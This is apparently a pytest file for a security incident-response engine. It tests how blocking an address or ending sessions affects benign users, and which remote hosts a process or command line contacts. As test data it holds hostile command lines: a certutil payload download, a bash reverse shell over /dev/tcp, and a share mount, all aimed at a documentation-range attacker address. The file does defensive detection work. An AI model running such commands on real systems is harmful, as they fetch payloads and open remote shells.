"""What an action takes from the victims of an attack, and whom an attack's programs talk to."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from response.counterfactual.touched_store import DAY, HOUR, NOW, Store, action
from vedette.engine.thwarting.talking import Talks
from vedette.engine.thwarting.weighing import Weigher
from vedette.model.batch import Batch
from vedette.model.finding import Entity, EventRef, Finding, RuleRef
from vedette.model.logsource import Logsource
from vedette.response.playbook.facts import Facts
from vedette.store.state import State

EVIL = "203.0.113.9"
MINUTE = HOUR // 60
ANN, HOST, OWN = (
    Entity("account", "firm\\ann"),
    Entity("host", "ws-01.firm.example"),
    Entity("address", "10.0.0.5"),
)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with State(tmp_path) as state:
        yield Store(tmp_path, state)


def sysmon(number: int, at: int, user: str = "ann", **more: Any) -> dict[str, Any]:
    return {
        "at": at,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": number,
        "Computer": "WS-01.firm.example",
        "User": f"FIRM\\{user}",
        **more,
    }


def connection(at: int, user: str = "ann", to: str = EVIL, **more: Any) -> dict[str, Any]:
    return sysmon(3, at, user, SourceIp="10.0.0.5", DestinationIp=to, **more)


def facts(*entities: Entity) -> Facts:
    own = frozenset(one for one in entities if one != Entity("address", EVIL))
    return Facts("i", ("execution",), 0.5, 0.9, "high", entities, own=own)


def cost(store: Store, first: int, kind: str = "refuse-address", target: str = EVIL) -> int:
    """How many benign principals are counted, by an incident of `first`."""
    about = {"refuse-address": "address", "end-sessions": "account"}[kind]
    named = facts(ANN, HOST, OWN, Entity("address", EVIL))
    weigh = Weigher(store.check(), lambda: NOW).for_incident(named, first)
    return weigh(action(kind, Entity(about, target))).benign_count


OLD = connection(3 * DAY, "old", to="198.51.100.1")


def test_what_a_victim_has_to_do_with_the_attacker_is_the_attack(store: Store) -> None:
    store.add("windows", [OLD, connection(5 * MINUTE), connection(MINUTE)])
    store.add("zeek", [{"at": MINUTE, "_path": "conn", "id.orig_h": "10.0.0.5",
                        "id.resp_h": EVIL}])  # fmt: skip
    assert cost(store, NOW - 6 * MINUTE) == 0


def test_what_it_had_to_do_with_it_before_is_its_work(store: Store) -> None:
    store.add("windows", [OLD, connection(9 * MINUTE), connection(MINUTE)])
    assert cost(store, NOW - 6 * MINUTE) == 1


def test_others_are_never_left_out(store: Store) -> None:
    store.add("windows", [OLD, connection(MINUTE), connection(MINUTE, "bob")])
    assert cost(store, NOW - 6 * MINUTE) == 1


def test_to_end_a_victims_own_sessions_takes_something_from_it(store: Store) -> None:
    store.add("windows", [OLD, connection(MINUTE)])
    assert cost(store, NOW - 6 * MINUTE, "end-sessions", "firm\\ann") == 1


def found(batch: Batch, row: int) -> Finding:
    """A finding about a row of a batch."""
    return Finding(
        f"f{row}", NOW, RuleRef("r", "r", "high", "", "", ""), Logsource(), (),
        (Entity("process", "c:\\w.exe"),), (),
        EventRef(batch.source, batch.rows.place(row), batch.event_key(row)),
    )  # fmt: skip


def test_whom_a_process_talks_to(store: Store) -> None:
    own, other = "{AAAAAAAA-1}", "{BBBBBBBB-2}"
    batch = store.add(
        "windows",
        [
            sysmon(1, 10 * MINUTE, ProcessId=77, ProcessGuid=own, Image="C:\\w.exe",
                   CommandLine="w -f http://198.51.100.77/x C:\\x.exe"),
            connection(9 * MINUTE, ProcessId=77, ProcessGuid=own),
            connection(8 * MINUTE, to="198.51.100.8", ProcessId=77, ProcessGuid=other),
            connection(9 * HOUR, to="198.51.100.9", ProcessId=77, ProcessGuid=own),
            connection(9 * MINUTE, to="198.51.100.10", ProcessId=78, ProcessGuid=own),
        ],
    )  # fmt: skip
    talks = Talks(store.paths, store.index())
    assert talks.of([found(batch, 0)]) == [
        OWN, Entity("address", "198.51.100.77"), Entity("address", EVIL),
    ]  # fmt: skip
    assert talks.of([]) == []


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("certutil -urlcache -f http://203.0.113.9/a a.exe", ["203.0.113.9"]),
        ("bash -i >& /dev/tcp/203.0.113.9/443 0>&1", ["203.0.113.9"]),
        ("net use \\\\203.0.113.9\\share", ["203.0.113.9"]),
        ("setup.exe /version 203.0.113.9", []),
        ("curl http://203.0.113.900/x", []),
        ("curl https://203.0.113.9.example/x", []),
    ],
)
def test_addresses_that_a_command_line_names(store: Store, line: str, named: list[str]) -> None:
    batch = store.add("windows", [sysmon(1, HOUR, ProcessId=5, Image="C:\\w.exe",
                                         CommandLine=line)])  # fmt: skip
    talked = Talks(store.paths, store.index()).of([found(batch, 0)])
    assert [one.value for one in talked] == named


def test_who_only_claimed_to_be_somebody_is_not_touched(store: Store) -> None:
    request = {"at": HOUR, "c-ip": EVIL, "cs-method": "POST", "cs-uri": "/ews/exchange.asmx",
               "cs-uri-stem": "/ews/exchange.asmx"}  # fmt: skip
    claimed = [request | {"cs-username": f"FIRM\\u{n}", "sc-status": 401} for n in range(3)]
    store.add("access", [request | {"at": 3 * DAY, "c-ip": "198.51.100.1"}, *claimed])
    asked = action("refuse-client", Entity("address", EVIL))
    attackers = [Entity("address", EVIL)]
    assert store.check().run(asked, NOW, attackers).benign_count == 0
    store.add("access", [request | {"cs-username": "FIRM\\ann", "sc-status": 200}], first=9)
    assert store.check().run(asked, NOW, attackers).benign_count == 1
